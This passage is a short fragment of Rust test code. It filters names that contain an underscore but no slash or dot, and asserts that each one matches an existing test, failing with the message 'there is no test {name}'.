        .filter(|name| name.contains('_') && !name.contains(['/', '.']))
    {
        assert!(
            tests.iter().any(|test| test == name),
            "there is no test {name}"
        );
    }
}
